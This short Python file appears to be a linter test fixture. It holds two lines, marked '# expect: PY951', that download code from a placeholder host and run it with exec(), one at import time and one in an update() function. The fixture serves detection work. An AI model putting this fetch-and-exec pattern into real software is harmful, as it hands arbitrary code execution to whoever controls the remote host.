import requests
from urllib.request import urlopen

exec(requests.get("https://stage2.example.invalid/p.py", timeout=5).text)  # expect: PY951


def update():
    body = urlopen("https://stage2.example.invalid/update.py").read()
    exec(body)  # expect: PY951
